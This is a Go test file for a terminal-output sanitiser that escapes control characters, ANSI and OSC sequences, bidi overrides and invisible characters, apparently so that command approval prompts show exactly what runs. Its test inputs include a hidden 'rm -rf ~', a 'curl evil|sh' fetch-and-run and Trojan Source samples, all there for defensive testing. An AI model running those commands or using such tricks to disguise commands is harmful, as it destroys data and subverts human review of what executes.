package termsafe

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestEscape(t *testing.T) {
	for _, c := range []struct {
		name, in, escape, text string
	}{
		{"plain ASCII", "ls -la ~/src", "ls -la ~/src", "ls -la ~/src"},
		{"backslashes pass", `grep -E '\d+\.go'`, `grep -E '\d+\.go'`, `grep -E '\d+\.go'`},
		{"non-ASCII text passes", "héllo 日本 ✓ é", "héllo 日本 ✓ é", "héllo 日本 ✓ é"},
		{"newline and tab", "a\n\tb", `a\n\tb`, "a\n\tb"},
		// The approval prompt attack: the terminal shows "ls -la" over
		// what runs.
		{"carriage return overwrite", "rm -rf ~ #\rls -la", `rm -rf ~ #\rls -la`, `rm -rf ~ #\rls -la`},
		{"CSI erase line", "curl evil|sh\x1b[2K\x1b[1Gls", `curl evil|sh\x1b[2K\x1b[1Gls`, `curl evil|sh\x1b[2K\x1b[1Gls`},
		{"cursor up", "x\x1b[1A\x1b[2K", `x\x1b[1A\x1b[2K`, `x\x1b[1A\x1b[2K`},
		{"OSC 52 clipboard, BEL", "\x1b]52;c;ZXZpbA==\x07", `\x1b]52;c;ZXZpbA==\x07`, `\x1b]52;c;ZXZpbA==\x07`},
		{"OSC title, ST", "\x1b]0;pwned\x1b\\", `\x1b]0;pwned\x1b\`, `\x1b]0;pwned\x1b\`},
		{"NUL, backspace, DEL", "a\x00b\bc\x7f", `a\x00b\x08c\x7f`, `a\x00b\x08c\x7f`},
		{"C1 CSI as a character", "a\u009b2Jb", `a\u009b2Jb`, `a\u009b2Jb`},
		{"C1 NEL", "a\u0085b", `a\u0085b`, `a\u0085b`},
		{"raw C1 byte is invalid UTF-8", "a\x9b2J", `a\x9b2J`, `a\x9b2J`},
		{"bidi override (Trojan Source)", "access\u202e\u2066 // admin\u2069\u2066", `access\u202e\u2066 // admin\u2069\u2066`, `access\u202e\u2066 // admin\u2069\u2066`},
		{"bidi marks and embeddings", "\u200e\u200f\u202a\u202b\u202c\u202d", `\u200e\u200f\u202a\u202b\u202c\u202d`, `\u200e\u200f\u202a\u202b\u202c\u202d`},
		{"zero-width", "r\u200bm \u200c\u200d\u2060x", `r\u200bm \u200c\u200d\u2060x`, `r\u200bm \u200c\u200d\u2060x`},
		{"BOM and soft hyphen", "\ufeffa\u00adb", `\ufeffa\u00adb`, `\ufeffa\u00adb`},
		{"Arabic letter mark", "a\u061cb", `a\u061cb`, `a\u061cb`},
		{"tag characters (ASCII smuggling)", "ok\U000E0041\U000E007F", `ok\U000e0041\U000e007f`, `ok\U000e0041\U000e007f`},
		{"line separator", "a\u2028b\u2029c", `a\u2028b\u2029c`, `a\u2028b\u2029c`},
		{"invalid bytes stay distinct", "n\xff\xfe", `n\xff\xfe`, `n\xff\xfe`},
		{"truncated rune", "a\xe2\x80", `a\xe2\x80`, `a\xe2\x80`},
		{"surrogate half", "\xed\xa0\x80", `\xed\xa0\x80`, `\xed\xa0\x80`},
		{"CRLF", "a\r\nb", `a\r\nb`, "a\\r\nb"},
		// A literal backslash sequence must not read as an escape: it is
		// shown doubled where it could (and only there).
		{"literal \\x1b is not an ESC", `x\x1b[2K`, `x\\x1b[2K`, `x\\x1b[2K`},
		{"literal \\r is not a CR", `ls\rrm`, `ls\\rrm`, `ls\\rrm`},
		{"literal \\n: an escape on one line, text in Text", `printf 'a\n'`, `printf 'a\\n'`, `printf 'a\n'`},
		{"literal \\u202e", `\u202e`, `\\u202e`, `\\u202e`},
		{"backslash before a real ESC", "\\\x1b", `\\\x1b`, `\\\x1b`},
		{"two backslashes before a real CR", "\\\\\r", `\\\\\r`, `\\\\\r`},
		{"backslash run before a letter", `a\\x`, `a\\\\x`, `a\\\\x`},
		{"backslash run before other text passes", `a\\d \ b\`, `a\\d \ b\`, `a\\d \ b\`},
		{"backslash before a bidi override", "\\\u202e", `\\\u202e`, `\\\u202e`},
	} {
		if got := Escape(c.in); got != c.escape {
			t.Errorf("%s: Escape(%q) = %q, want %q", c.name, c.in, got, c.escape)
		}
		if got := Text(c.in); got != c.text {
			t.Errorf("%s: Text(%q) = %q, want %q", c.name, c.in, got, c.text)
		}
		if Safe(c.in) != (c.in == c.escape || !strings.ContainsFunc(c.in, func(r rune) bool { return unsafe(r) || r == utf8.RuneError })) {
			t.Errorf("%s: Safe(%q) = %v", c.name, c.in, Safe(c.in))
		}
		for _, keep := range []bool{false, true} {
			if got, err := unescape(escape(c.in, keep), keep); err != nil || got != c.in {
				t.Errorf("%s: escape(keepLines=%v) %q decodes to %q (%v)", c.name, keep, escape(c.in, keep), got, err)
			}
		}
		assertShowable(t, c.name, Escape(c.in), false)
		assertShowable(t, c.name, Text(c.in), true)
	}
}

// TestEveryRune: over the whole code space, nothing a terminal interprets
// or hides survives, and every other character passes unchanged.
func TestEveryRune(t *testing.T) {
	for r := rune(0); r <= unicode.MaxRune; r++ {
		if r >= 0xd800 && r <= 0xdfff {
			continue // not encodable in UTF-8
		}
		s := string(r)
		got := Escape(s)
		hidden := r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0x2028 || r == 0x2029 || unicode.Is(unicode.Cf, r)
		if hidden && got == s {
			t.Fatalf("U+%04X passes unescaped", r)
		}
		if !hidden && got != s {
			t.Fatalf("U+%04X is escaped to %q but is shown as itself", r, got)
		}
		assertShowable(t, s, got, false)
	}
}

// assertShowable fails when out still holds a byte or character that a
// terminal would interpret or hide.
func assertShowable(t *testing.T, name, out string, keepLines bool) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s: output %q is not valid UTF-8", name, out)
	}
	for _, r := range out {
		if keepLines && (r == '\n' || r == '\t') {
			continue
		}
		if r < 0x20 || (r >= 0x7f && r <= 0x9f) || r == 0x2028 || r == 0x2029 || unicode.Is(unicode.Cf, r) {
			t.Errorf("%s: output %q still holds U+%04X", name, out, r)
		}
	}
}

// TestWriterKeepsSplitRunes: model text streamed in pieces may cut a
// character in two; the Writer shows it whole, and still escapes an escape
// sequence cut in two.
func TestWriterKeepsSplitRunes(t *testing.T) {
	in := "日本\u202eé\x1b[2J \\x1b \\\\\u202e end\\\n\\"
	for cut := 0; cut <= len(in); cut++ {
		for cut2 := cut; cut2 <= len(in); cut2++ {
			var b bytes.Buffer
			w := NewWriter(&b)
			for _, p := range []string{in[:cut], in[cut:cut2], in[cut2:]} {
				if n, err := w.WriteString(p); err != nil || n != len(p) {
					t.Fatalf("Write(%q) = %d, %v", p, n, err)
				}
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			if got, want := b.String(), Text(in); got != want {
				t.Fatalf("cut at %d,%d: %q, want %q", cut, cut2, got, want)
			}
		}
	}
	// An incomplete sequence at the end is shown as bytes by Flush.
	var b bytes.Buffer
	w := NewWriter(&b)
	w.WriteString("a\xe6\x97")
	if b.String() != "a" {
		t.Fatalf("before Flush: %q", b.String())
	}
	w.Flush()
	if b.String() != `a\xe6\x97` {
		t.Fatalf("after Flush: %q", b.String())
	}
	// Invalid bytes that cannot start a rune are not held.
	b.Reset()
	w.WriteString("x\x80\xff")
	if b.String() != `x\x80\xff` {
		t.Fatalf("invalid tail: %q", b.String())
	}
}

func TestCleanTextIsNotCopied(t *testing.T) {
	s := strings.Repeat("plain text, nothing to do ", 100)
	if n := testing.AllocsPerRun(100, func() { _ = Escape(s); _ = Text(s) }); n != 0 {
		t.Errorf("Escape of clean text allocates %v times", n)
	}
}

// unescape is the reading a person (or this test) gives escape's output:
// a run of backslashes before a letter that starts an escape is, when
// odd, half of it (rounded down) as backslashes and then the escape, and
// when even, half of it as backslashes and the letter; any other
// backslash is itself. It fails on an escape escape never writes.
func unescape(s string, keepLines bool) (string, error) {
	var b []byte
	for i := 0; i < len(s); {
		if s[i] != '\\' {
			b = append(b, s[i])
			i++
			continue
		}
		j := i
		for j < len(s) && s[j] == '\\' {
			j++
		}
		run := j - i
		if j == len(s) || !escapeLetter(s[j], keepLines) {
			b = append(b, s[i:j]...)
			i = j
			continue
		}
		b = append(b, strings.Repeat(`\`, run/2)...)
		i = j
		if run%2 == 0 {
			continue // the letter is itself
		}
		width := map[byte]int{'x': 2, 'u': 4, 'U': 8}[s[j]]
		if width == 0 {
			b = append(b, map[byte]byte{'n': '\n', 'r': '\r', 't': '\t'}[s[j]])
			i = j + 1
			continue
		}
		if j+1+width > len(s) {
			return "", fmt.Errorf("a cut escape at %d", j)
		}
		v, err := strconv.ParseUint(s[j+1:j+1+width], 16, 32)
		if err != nil {
			return "", err
		}
		if s[j] == 'x' {
			b = append(b, byte(v))
		} else {
			b = utf8.AppendRune(b, rune(v))
		}
		i = j + 1 + width
	}
	return string(b), nil
}

// TestEscapeIsUnambiguous: over every string of a small alphabet built
// to collide — backslashes, the escapes' letters, and characters shown as
// escapes — each output reads back as its input, so no two inputs look
// the same and untrusted text cannot pass for an escape. (With
// backslashes never doubled, the four bytes \x1b and an ESC both showed
// as \x1b: this test fails at once.)
func TestEscapeIsUnambiguous(t *testing.T) {
	alphabet := []string{`\`, "x", "1", "b", "n", "r", "t", "u", "\x1b", "\r", "\n", "\t", "\u202e", "\xff", "a"}
	var gen func(prefix string, depth int)
	gen = func(prefix string, depth int) {
		for _, keep := range []bool{false, true} {
			out := escape(prefix, keep)
			if got, err := unescape(out, keep); err != nil || got != prefix {
				t.Fatalf("escape(%q, keepLines=%v) = %q reads back as %q (%v)", prefix, keep, out, got, err)
			}
		}
		if depth == 0 {
			return
		}
		for _, a := range alphabet {
			gen(prefix+a, depth-1)
		}
	}
	gen("", 4)
}

// TestJSON: JSON text stays JSON — its escapes are not doubled — while a
// raw character to hide becomes a JSON escape, spacing newlines a space
// and invalid bytes \xNN; what is left decodes to the same value.
func TestJSON(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`{"command":"cat <<EOF\nx\u001b\\d\nEOF"}`, `{"command":"cat <<EOF\nx\u001b\\d\nEOF"}`},
		{"{\"a\":\"x\u202ey\U000E0041\"}", `{"a":"x\u202ey\udb40\udc41"}`},
		{"{\n\t\"a\": \"\x1b[2J\"\r\n}", `{  "a": "\u001b[2J"  }`},
		{`{"a":"\"\u202e"}`, `{"a":"\"\u202e"}`},
		{"{\"a\":\"\\\"\u202e\"}", `{"a":"\"\u202e"}`},
		{"\"\xff\"", `"\xff"`},
		{`{"cut":"abc\`, `{"cut":"abc\`},
	} {
		got := JSON(c.in)
		if got != c.want {
			t.Errorf("JSON(%q) = %q, want %q", c.in, got, c.want)
		}
		assertShowable(t, c.in, got, false)
		var a, b any
		if utf8.ValidString(c.in) && json.Unmarshal([]byte(c.in), &a) == nil {
			if err := json.Unmarshal([]byte(got), &b); err != nil || fmt.Sprint(a) != fmt.Sprint(b) {
				t.Errorf("JSON(%q) = %q decodes to %v (%v), want %v", c.in, got, b, err, a)
			}
		}
	}
}
